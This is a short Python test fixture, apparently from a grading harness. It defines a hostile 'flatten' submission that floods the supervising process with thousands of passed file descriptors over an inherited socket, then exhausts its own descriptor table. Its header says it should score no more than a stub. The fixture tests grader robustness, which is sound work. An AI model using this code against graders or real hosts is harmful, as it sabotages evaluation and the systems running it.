# exercise: flatten
# attack: D12, S06
# must: earn no more than a stub
# verdicts: failed, error, crashed
"""Sends the supervisor descriptors with its answers, thousands of them, and opens all it may itself."""

import os
import socket


def flatten(items):
    channel = socket.socket(fileno=os.dup(3))
    null = [os.open(os.devnull, os.O_RDONLY) for _ in range(100)]
    for _ in range(40):
        try:
            socket.send_fds(channel, [b"\0\0\0\1N" * 4], null)
        except OSError:
            break
    try:
        while True:
            os.dup(0)
    except OSError:
        return []
